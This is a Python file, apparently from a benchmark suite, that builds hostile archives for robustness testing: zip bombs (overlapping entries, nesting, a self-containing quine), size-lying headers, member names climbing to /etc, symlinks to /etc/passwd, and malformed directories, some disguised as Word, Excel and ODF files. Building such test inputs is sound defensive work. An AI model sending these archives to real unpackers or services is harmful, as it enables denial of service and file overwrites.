"""Zip bombs: archives that unpack to more than they hold, lie of their size, hold themselves, or point elsewhere.

Under the suffix of an office file they go to its reader, as .zip to the unpacking of folders.
"""

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Iterator

from benchmarks.bombs.bomb import Bomb, expanding, zeros, zipped

_ODS = b"application/vnd.oasis.opendocument.spreadsheet"
_LOCAL, _CENTRAL, _END = b"PK\x03\x04", b"PK\x01\x02", b"PK\x05\x06"


def bombs() -> Iterator[Bomb]:
    """Them."""
    yield Bomb("zeros.zip", "400 MB 零", lambda: raw([("a.txt", zeros(400), 400 << 20, 400 << 20)]))
    yield Bomb("lying.zip", "写明 10 字节，实为 400 MB", lambda: raw([("a.txt", zeros(400), 10, 10)]))
    yield Bomb("overlapping.zip", "2,000 个成员共用同一段压缩内容（42 型）", lambda: overlapping(2000, 64))
    yield Bomb("overlapping.docx", "同上，作 Word", lambda: overlapping(500, 64, "word/document.xml"))
    yield Bomb("overlapping.xlsx", "同上，作 Excel", lambda: overlapping(500, 64, "xl/workbook.xml"))
    yield Bomb("nested.zip", "压缩包里套压缩包，9 层，每层 10 份", lambda: nested(9, 10))
    yield Bomb("nested.docx", "Word 里套压缩包", lambda: zipped({"word/document.xml": nested(6, 10)}))
    yield Bomb("many.zip", "60,000 个空成员", lambda: zipped({f"{n}.txt": b"" for n in range(60_000)}))
    yield Bomb("many.docx", "Word 里 60,000 个空成员", lambda: zipped({"word/document.xml": b"<a/>"} | {
        f"word/{n}": b"" for n in range(60_000)
    }))  # fmt: skip
    yield Bomb("same.zip", "同名成员 4,000 个", lambda: same_names(4000))
    yield Bomb("itself.zip", "自含（quine）：末尾把自己当成成员", quine)
    yield Bomb("links.zip", "符号链接指向 /etc/passwd", links)
    yield Bomb("climbing.zip", "成员名爬出文件夹", lambda: zipped({"../" * 40 + "etc/x.txt": b"x", "/etc/y.txt": b"y"}))
    yield Bomb("long-names.zip", "6 万字的成员名", lambda: zipped({"名" * 20_000 + ".txt": b"x"}))
    yield Bomb("gbk-names.zip", "GBK 成员名", gbk_names)
    yield Bomb("deep-names.zip", "2 万层文件夹", lambda: zipped({"a/" * 20_000 + "x.txt": b"x"}))
    yield Bomb("truncated.zip", "截断的压缩包", lambda: zipped({"a.txt": b"x" * 9999})[:-30])
    yield Bomb("bad-crc.zip", "校验值不对", lambda: raw([("a.txt", zlib.compress(b"x")[2:-4], 1, 1)], crc=7))
    yield Bomb("comment.zip", "6 万字节的注释里有假目录", commented)
    yield Bomb("far-directory.zip", "目录写在 4 GB 处", lambda: raw([("a.txt", b"x", 1, 1)], offset=0xFFFFFFF0))
    yield Bomb("count.zip", "目录写明 65,535 个成员，只有 1 个", lambda: raw([("a.txt", b"x", 1, 1)], count=0xFFFF))
    yield Bomb("bzip.docx", "bzip2 压缩的 150 MB", lambda: expanding("word/document.xml", 150, zipfile.ZIP_BZIP2))
    yield Bomb("lzma.xlsx", "LZMA 压缩的 150 MB", lambda: expanding("xl/workbook.xml", 150, zipfile.ZIP_LZMA))
    yield Bomb("locked.docx", "写明有密码", lambda: raw([("word/document.xml", b"x", 1, 1)], flags=1))
    yield Bomb("zeros.docx", "Word 里 300 MB 零", lambda: expanding("word/document.xml", 300))
    yield Bomb("zeros.ods", "ODF 里 300 MB 零", lambda: expanding("content.xml", 300, others={"mimetype": _ODS}))


def raw(members: list[tuple[str, bytes, int, int]], *, crc: int = 0, offset: int | None = None,
        count: int | None = None, flags: int = 0) -> bytes:  # fmt: skip
    """A zip written by hand: name, zlib stream, size in the local head, size in the directory."""
    body, central = b"", b""
    for name, packed, local_size, size in members:
        data = packed[2:-4] if packed[:1] == b"x" and len(packed) > 6 else packed
        label = name.encode()
        head = struct.pack("<HHHHHIII", 20, flags, 8, 0, 0, crc, len(data), local_size)
        central += _CENTRAL + struct.pack("<H", 20) + head[:-4] + struct.pack(
            "<IHHHHHII", size, len(label), 0, 0, 0, 0, 0, len(body)
        ) + label  # fmt: skip
        body += _LOCAL + head + struct.pack("<HH", len(label), 0) + label + data
    number = len(members) if count is None else count
    at = len(body) if offset is None else offset
    return body + central + _END + struct.pack("<HHHHIIH", 0, 0, number, number, len(central), at, 0)


def overlapping(count: int, megabytes: int, first: str = "0.txt") -> bytes:
    """Every entry of the directory names the same piece, so that each adds its size and no byte."""
    data = zeros(megabytes)[2:-4]
    label = first.encode()
    head = struct.pack("<HHHHHIII", 20, 0, 8, 0, 0, 0, len(data), megabytes << 20)
    body = _LOCAL + head + struct.pack("<HH", len(label), 0) + label + data
    tail = struct.pack("<HHHHII", 0, 0, 0, 0, 0, 0)
    names = [label, *(b"%d.txt" % n for n in range(1, count))]
    central = b"".join(
        _CENTRAL + struct.pack("<H", 20) + head + struct.pack("<H", len(n)) + tail + n for n in names
    )  # fmt: skip
    return body + central + _END + struct.pack("<HHHHIIH", 0, 0, count, count, len(central), len(body), 0)


def nested(levels: int, each: int) -> bytes:
    """Archives in archives; the innermost hold 10 MB of zeros."""
    content = zipped({"a.txt": b"\0" * (10 << 20)})
    for level in range(levels):
        content = zipped({f"{level}-{n}.zip": content for n in range(each)})
    return content


def same_names(count: int) -> bytes:
    """A name that stands in the directory again and again, of which no one knows which is meant."""
    return raw([("a.txt", zeros(1), 1 << 20, 1 << 20)] * count)


def quine() -> bytes:
    """A member whose local head is the head of the file itself: who unpacks what is unpacked never ends."""
    whole = raw([("r/r.zip", b"x", 1, 1)])
    stored = struct.pack("<HHHHHIII", 20, 0, 0, 0, 0, 0, len(whole), len(whole))
    label = b"r/r.zip"
    body = _LOCAL + stored + struct.pack("<HH", len(label), 0) + label + whole
    central = _CENTRAL + struct.pack("<H", 20) + stored + struct.pack("<HHHHHII", len(label), 0, 0, 0, 0, 0, 0) + label
    return body + central + _END + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(body), 0)


def links() -> bytes:
    """Links as Unix zips hold them."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, to in (("a.txt", "/etc/passwd"), ("文件夹", "/"), ("b.txt", "b.txt")):
            member = zipfile.ZipInfo(name)
            member.create_system, member.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
            archive.writestr(member, to)
    return made.getvalue()


def gbk_names() -> bytes:
    """Names as Chinese Windows writes them, and some that are no GBK either."""
    content = zipped({"AAAA.txt": b"x", "BBBB.txt": b"y"})
    return content.replace(b"AAAA", "绩效".encode("gbk")).replace(b"BBBB", b"\xff\xfe\x81\x0a")


def commented() -> bytes:
    """A comment that holds what looks like the end of another archive."""
    whole = zipped({"a.txt": b"x"})
    comment = (_END + b"\xff" * 18) * 2900
    return whole[:-2] + struct.pack("<H", len(comment)) + comment
